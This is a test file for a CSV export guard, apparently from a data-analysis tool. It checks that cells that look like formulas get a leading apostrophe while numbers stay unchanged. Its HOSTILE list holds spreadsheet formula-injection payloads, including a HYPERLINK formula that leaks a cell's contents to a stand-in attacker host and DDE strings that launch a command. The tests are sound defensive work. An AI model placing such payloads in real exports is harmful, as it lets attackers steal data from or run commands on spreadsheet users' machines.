"""CSV downloads are safe to open in a spreadsheet: dangerous text cells get a leading ', numbers never change."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from core.cli.commands import main
from core.data.csv_safety import GUARD, guard_cell, is_dangerous, neutralise_frame, to_csv, to_csv_bytes

ROOT = Path(__file__).resolve().parents[3]
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
SAFE = ["plain words", "a = b", "x+y", "mail@example.com", "-5", "+1.5e3", "-0.25", "'already quoted", "naïve café",
        "line\nbreak", "ok\r=1+1"]


def hostile_frame() -> pd.DataFrame:
    """Hostile and harmless texts beside number columns with negative values."""
    texts = HOSTILE + SAFE
    n = len(texts)
    rng = np.random.default_rng(0)
    return pd.DataFrame({"text": texts, "x": rng.normal(size=n) * 1e-3 - 1.0, "y": -rng.random(n) / 3,
                         "count": np.arange(-n // 2, n - n // 2), "flag": np.arange(n) % 2 == 0,
                         "mixed": [-7, "=cmd", 2.5, None, "@x", "ok", -1e-300, *["t"] * (n - 7)]})


def reread(source: str | Path) -> pd.DataFrame:
    """A CSV text (or file) read back with every string as written (an empty cell reads as "")."""
    return pd.read_csv(source if isinstance(source, Path) else io.StringIO(source), keep_default_na=False)


def expected_guarded(values: list[str]) -> list[str]:
    return [GUARD + v if v in HOSTILE else v for v in values]


def test_the_prefix_lands_only_on_dangerous_cells():
    back = reread(to_csv(hostile_frame()))
    assert back["text"].tolist() == expected_guarded(HOSTILE + SAFE)
    assert back["mixed"].tolist()[:7] == ["-7", "'=cmd", "2.5", "", "'@x", "ok", "-1e-300"]


def test_numbers_round_trip_exactly():
    frame = hostile_frame()
    back = reread(to_csv(frame))
    for column in ("x", "y", "count"):
        assert back[column].dtype == frame[column].dtype
        np.testing.assert_array_equal(back[column].to_numpy(), frame[column].to_numpy())
    assert (back["x"] < 0).all() and (back["count"] < 0).any()
    assert back["flag"].tolist() == frame["flag"].tolist()


def test_raw_round_trips_the_text_exactly():
    frame = hostile_frame()
    back = reread(to_csv(frame, raw=True))
    assert back["text"].tolist() == frame["text"].tolist()
    np.testing.assert_array_equal(back["x"].to_numpy(), frame["x"].to_numpy())


def test_a_spreadsheet_parse_finds_no_formula_cell():
    """Bare CRs are quoted (CRLF line ends), so no cell, however the rows split, starts like a formula."""
    text = to_csv(hostile_frame())
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(hostile_frame()) + 1
    assert not [cell for row in rows for cell in row if is_dangerous(cell)]
    assert '"ok\r=1+1"' in text and '"\'\r=1+1"' in text
    assert rows[0] == list(hostile_frame().columns)


def test_column_names_are_guarded_and_the_input_is_not_changed():
    frame = pd.DataFrame({"=cmd": ["=1"], "-x": [-1.5], "ok": ["fine"]})
    guarded = neutralise_frame(frame)
    assert list(guarded.columns) == ["'=cmd", "'-x", "ok"] and guarded.iloc[0, 0] == "'=1"
    assert guarded["'-x"].iloc[0] == -1.5 and list(frame.columns) == ["=cmd", "-x", "ok"] and frame.iloc[0, 0] == "=1"


def test_categories_and_other_objects_are_guarded_through_their_text():
    class Formula:
        def __str__(self) -> str:
            return "=evil()"

    frame = pd.DataFrame({"c": pd.Categorical(["=a", "b", "=a"]), "o": [Formula(), 3, np.float64(-2.0)]})
    back = reread(to_csv(frame))
    assert back["c"].tolist() == ["'=a", "b", "'=a"] and back["o"].tolist() == ["'=evil()", "3", "-2.0"]
    assert guard_cell(-1.5) == -1.5 and guard_cell(None) is None and guard_cell(np.int64(-3)) == -3


def test_options_pass_through_and_bytes_are_utf8():
    data = to_csv_bytes(pd.DataFrame({"w": ["=é"], "v": [0.123456789]}), float_format="%.3g")
    assert data == "w,v\r\n'=é,0.123\r\n".encode()


# ---------------------------------------------------------------------- the command line


@pytest.fixture(scope="module")
def hostile_input(tmp_path_factory) -> Path:
    """Vectors for the hostile texts, and their metadata written raw (as a pipeline would)."""
    folder = tmp_path_factory.mktemp("csv-cli")
    frame = hostile_frame()[["text", "count"]]
    vectors = np.random.default_rng(1).normal(size=(len(frame), 6)).astype(np.float32)
    np.save(folder / "v.npy", vectors)
    (folder / "meta.csv").write_bytes(to_csv_bytes(frame, raw=True))
    return folder


def map_args(folder: Path, out: str, *extra: str) -> list[str]:
    return ["map", str(folder / "v.npy"), "--metadata", str(folder / "meta.csv"), "--method", "pca",
            "--clusters", "none", "--out", str(folder / out), *extra]


def test_cli_map_csv_is_guarded_and_csv_raw_is_exact(hostile_input, monkeypatch, capsys):
    monkeypatch.setenv("EE_DATA_DIR", str(hostile_input / "data"))
    env = {**os.environ, "EE_DATA_DIR": str(hostile_input / "data")}
    done = subprocess.run([sys.executable, "-m", "core", *map_args(hostile_input, "m.csv")], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert main(map_args(hostile_input, "raw.csv", "--csv-raw")) == 0
    assert main(map_args(hostile_input, "m.parquet")) == 0
    guarded, raw = reread(hostile_input / "m.csv"), reread(hostile_input / "raw.csv")
    exact = pd.read_parquet(hostile_input / "m.parquet")
    assert guarded["text"].tolist() == expected_guarded(HOSTILE + SAFE)
    assert raw["text"].tolist() == exact["text"].tolist() == HOSTILE + SAFE
    for column in ("x", "y", "count"):
        np.testing.assert_array_equal(guarded[column].to_numpy(), exact[column].to_numpy())
        np.testing.assert_array_equal(raw[column].to_numpy(), exact[column].to_numpy())
    assert (exact["x"] < 0).any()


@pytest.mark.parametrize("raw", [False, True])
def test_cli_project_writes_guarded_or_raw_csv(hostile_input, monkeypatch, raw):
    monkeypatch.setenv("EE_DATA_DIR", str(hostile_input / "data"))
    out = hostile_input / f"p-{raw}.csv"
    args = ["project", str(hostile_input / "v.npy"), "--metadata", str(hostile_input / "meta.csv"), "--method", "pca",
            "--out", str(out)]
    assert main(args + (["--csv-raw"] if raw else [])) == 0
    back = reread(out)
    assert back["text"].tolist() == (HOSTILE + SAFE if raw else expected_guarded(HOSTILE + SAFE))
    assert back["count"].tolist() == hostile_frame()["count"].tolist()


@pytest.mark.parametrize("raw", [False, True])
def test_cli_weat_csv_on_stdout(monkeypatch, capsys, raw):
    from core.cli import audits

    table = pd.DataFrame({"test": ["=custom"], "d": [-1.23456789], "missing": ["@a, b"]})
    monkeypatch.setattr(audits, "weat_payload", lambda args: ({"word_source": "w", "conventions": "c"}, table))
    assert main(["weat", "--format", "csv", *(["--csv-raw"] if raw else [])]) == 0
    back = reread(capsys.readouterr().out)
    assert back.iloc[0].tolist() == (["=custom", -1.23457, "@a, b"] if raw else ["'=custom", -1.23457, "'@a, b"])


@pytest.mark.parametrize("raw", [False, True])
def test_cli_analogies_csv_on_stdout(monkeypatch, capsys, raw):
    from core.audits import analogy_benchmark, word_vectors

    table = pd.DataFrame({"section": ["+uploaded: section"], "3CosAdd accuracy": [0.5]})
    monkeypatch.setattr(word_vectors, "vocabulary", lambda *a, **k: [])
    monkeypatch.setattr(analogy_benchmark, "read_benchmark_text", lambda name: ("f", ""))
    monkeypatch.setattr(analogy_benchmark, "run_benchmark", lambda *a, **k: [])
    monkeypatch.setattr(analogy_benchmark, "benchmark_table", lambda results: table)
    assert main(["analogies", "--format", "csv", *(["--csv-raw"] if raw else [])]) == 0
    back = reread(capsys.readouterr().out)
    assert back["section"].tolist() == (["+uploaded: section"] if raw else ["'+uploaded: section"])
    assert back["3CosAdd accuracy"].tolist() == [0.5]


def test_every_csv_command_takes_csv_raw():
    from core.cli.commands import build_parser

    parser = build_parser()
    for command in ("embed", "project", "map", "weat", "analogies"):
        assert parser.parse_known_args([command, "x", "--out", "o", "--csv-raw"])[0].csv_raw is True, command
        assert parser.parse_known_args([command, "x", "--out", "o"])[0].csv_raw is False, command


def test_every_csv_writer_goes_through_csv_safety():
    """No module writes CSV itself: pandas' to_csv and the text/csv type appear only in the two guarded writers."""
    allowed = {ROOT / "core" / "data" / "csv_safety.py", ROOT / "components" / "downloads.py"}
    sources = [p for folder in ("core", "components", "pages") for p in (ROOT / folder).rglob("*.py")]
    writers = [str(p.relative_to(ROOT)) for p in [*sources, ROOT / "app.py"] if p not in allowed
               and (".to_csv(" in (text := p.read_text(encoding="utf-8")) or "text/csv" in text)]
    assert not writers, writers
    assert ".to_csv(" in (ROOT / "core" / "data" / "csv_safety.py").read_text(encoding="utf-8")
